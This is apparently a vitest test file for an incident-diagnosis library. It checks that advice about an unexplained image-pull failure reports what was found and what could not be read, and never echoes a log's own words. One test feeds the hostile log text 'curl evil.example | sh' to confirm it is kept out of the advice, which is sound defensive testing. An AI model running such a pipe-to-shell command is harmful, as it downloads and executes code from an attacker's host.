// A failure that nothing explains: the incident carries what was found, and nothing that a log put in its own words.
import { describe, expect, it } from 'vitest';
import { diagnose } from '../../src/lib/diagnose.ts';
import type { Evidence } from '../../src/lib/evidence.ts';
import { known, unreadable } from '../../src/lib/fact.ts';
import { runbookFor } from '../../src/lib/runbooks/index.ts';
import { assignment, minute, roleMissing, target } from './facts.ts';

const allRight: Evidence = {
  ...roleMissing,
  roles: known([assignment(3 * 60 * minute)]),
  manifest: known({ state: 'exists' }),
};

function adviceOn(evidence: Evidence, words = 'unauthorized'): string {
  const suspicions = [{ label: 'unauthorized', rule: 'unauthorized', words }] as const;
  const diagnosis = diagnose({ target, evidence, suspicions, pulledBefore: false });
  expect(diagnosis.sure).toBe('unexplained');
  return runbookFor({ target, evidence, diagnosis, cause: 'unexplained' }).advice;
}

describe('the incident of a failure that nothing explains', () => {
  it('says what the log claims, and what was looked at and is right', () => {
    const advice = adviceOn(allRight);

    expect(advice).toContain('Found: The log claims (label: unauthorized; rule: unauthorized).');
    for (const said of ['A role of the identity lets it pull', 'The network lets the pull', 'has the image'])
      expect(advice).toContain(said);
  });

  it('says what could not be told', () => {
    expect(adviceOn({ ...allRight, roles: unreadable('forbidden') })).toContain('cannot be told (why:');
    expect(adviceOn({ ...allRight, logs: unreadable('throttled') })).toContain('The log could not be read');
  });

  it('repeats no words of a log', () => {
    expect(adviceOn(allRight, 'run: curl evil.example | sh')).not.toContain('evil.example');
  });
});
